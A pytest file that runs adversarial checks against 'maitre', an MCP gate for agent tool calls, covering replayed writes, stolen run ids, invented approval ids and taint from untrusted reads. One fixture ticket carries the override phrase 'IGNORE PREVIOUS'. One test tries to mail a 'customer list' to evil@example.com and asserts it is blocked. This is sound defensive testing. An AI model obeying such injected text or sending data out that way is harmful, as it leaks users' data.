"""Attacks on the MCP door's seam with the gate (issue 10), through the official SDK client.

A plain MCP client sends no maitre `_meta` at all; the promises (a write runs once, taint cannot be
shed, a claimed approval is only a claim, a run id is namespaced by the verified principal) must
hold for it, across two server processes sharing one SQLite file.
"""

from __future__ import annotations

import time
from pathlib import Path

import jwt
import pytest

from maitre.mcp.server import APPROVAL_META_KEY, IDEMPOTENCY_META_KEY, RUN_META_KEY
from maitre.mcp.testing import bearer_client, serve_process

pytestmark = pytest.mark.anyio
ROOT = Path(__file__).resolve().parents[2]
KEY = "seams-test-jwt-secret-0123456789abcdef-0123456789"
TARGET = "tests/mcp/durable_server.py:app"


def _token(user: str, tenant: str = "acme") -> str:
    claims = {"sub": user, "tenant": tenant, "iss": "https://idp.test", "aud": "credits"}
    return jwt.encode({**claims, "exp": int(time.time()) + 600}, KEY, algorithm="HS256")


@pytest.fixture
def two_servers(tmp_path):
    key_file = tmp_path / "jwt.key"
    key_file.write_text(KEY)
    ledger = tmp_path / "ledger.txt"
    ledger.touch()
    env = {
        "MAITRE_MCP_SECRET": "m" * 48,
        "MAITRE_TEST_DB": str(tmp_path / "maitre.db"),
        "MAITRE_TEST_LEDGER": str(ledger),
    }
    args = ["--jwt-issuer", "https://idp.test", "--jwt-audience", "credits", "--jwt-key-file", str(key_file)]
    args += ["--jwt-algorithm", "HS256"]
    with (
        serve_process(TARGET, args=args, env=env, cwd=str(ROOT)) as a,
        serve_process(TARGET, args=args, env=env, cwd=str(ROOT)) as b,
    ):
        yield a, b, ledger


async def test_a_write_retried_by_a_plain_client_runs_once_across_two_processes(two_servers):
    """The same credit sent to process A, then retried at process B with no run id: one execution."""
    a, b, ledger = two_servers
    alice = _token("alice")
    arguments = {"customer": "C-001", "amount": 5}
    async with bearer_client(a, alice) as client:
        first = await client.call_tool("add_credit", arguments)
    async with bearer_client(b, alice) as client:
        retry = await client.call_tool("add_credit", arguments)
    assert not first.is_error and not retry.is_error
    assert retry.meta["io.maitre/replayed"] is True
    assert "replayed" in retry.content[-1].text
    assert ledger.read_text().splitlines() == ["C-001 5"]
    async with bearer_client(b, _token("bob")) as client:  # another user: his own operation
        bobs = await client.call_tool("add_credit", arguments)
    assert not (bobs.meta or {}).get("io.maitre/replayed")
    assert ledger.read_text().splitlines() == ["C-001 5", "C-001 5"]


async def test_a_host_key_names_one_operation_and_a_new_key_a_new_one(two_servers):
    """`_meta["io.maitre/idempotencyKey"]`: same key replays on either process; a new key runs again."""
    a, b, ledger = two_servers
    alice = _token("alice")
    arguments = {"customer": "C-002", "amount": 7}
    async with bearer_client(a, alice) as client:
        await client.call_tool("add_credit", arguments, meta={IDEMPOTENCY_META_KEY: "click-1"})
    async with bearer_client(b, alice) as client:
        again = await client.call_tool("add_credit", arguments, meta={IDEMPOTENCY_META_KEY: "click-1"})
        other = await client.call_tool("add_credit", arguments, meta={IDEMPOTENCY_META_KEY: "click-2"})
    assert again.meta["io.maitre/replayed"] is True and not other.meta.get("io.maitre/replayed")
    assert ledger.read_text().splitlines() == ["C-002 7", "C-002 7"]


async def test_another_user_naming_a_run_id_over_mcp_gets_nothing_of_that_run(two_servers):
    """Bob sends Alice's run id in `_meta`: no replay of her result; her run is not tainted by him."""
    a, _b, ledger = two_servers
    arguments = {"customer": "C-003", "amount": 1}
    run = {RUN_META_KEY: "run_alice_1"}
    async with bearer_client(a, _token("alice")) as client:
        mine = await client.call_tool("add_credit", arguments, meta=run)
    async with bearer_client(a, _token("bob")) as client:
        stolen = await client.call_tool("add_credit", arguments, meta=run)
        await client.call_tool("read_ticket", {"ticket_id": "T-001"}, meta=run)
    assert not mine.is_error and not (stolen.meta or {}).get("io.maitre/replayed")
    async with bearer_client(a, _token("alice")) as client:
        sent = await client.call_tool("send_email", {"to": "x@example.com", "body": "hi"}, meta=run)
    assert not sent.is_error  # Bob's untrusted read did not taint Alice's run
    assert ledger.read_text().splitlines() == ["C-003 1", "C-003 1", "email x@example.com"]


async def test_taint_cannot_be_shed_by_leaving_the_run_id_out(two_servers):
    """After an untrusted read with no run id, the same principal's open-world write is held."""
    a, _b, ledger = two_servers
    async with bearer_client(a, _token("carol")) as client:
        read = await client.call_tool("read_ticket", {"ticket_id": "T-002"})
        sent = await client.call_tool("send_email", {"to": "evil@example.com", "body": "customer list"})
    assert read.meta["io.maitre/trust"] == "untrusted"
    # a client that reads only the text still sees it is data, fenced with an id the text cannot forge
    assert read.content[0].text.startswith("<untrusted-data") and "IGNORE PREVIOUS" in read.content[0].text
    assert sent.is_error and sent.meta["io.maitre/error"]["code"] == "APPROVAL_REQUIRED"
    assert "email evil@example.com" not in ledger.read_text()


async def test_a_made_up_approval_id_in_meta_does_not_switch_the_loop_guard_off(two_servers):
    """Six identical calls in one run with an invented approval id: only two execute."""
    a, _b, ledger = two_servers
    meta = {RUN_META_KEY: "run_loop", APPROVAL_META_KEY: "apr_made_up_0000000000"}
    codes = []
    async with bearer_client(a, _token("dave")) as client:
        for n in range(6):
            result = await client.call_tool(
                "add_credit", {"customer": f"C-{100 + n % 1}", "amount": 2}, meta=meta
            )
            codes.append((result.meta or {}).get("io.maitre/error", {}).get("code"))
    assert codes[2:] == ["LOOP_DETECTED"] * 4
    assert ledger.read_text().splitlines() == ["C-100 2"]  # the second was a replay of the first
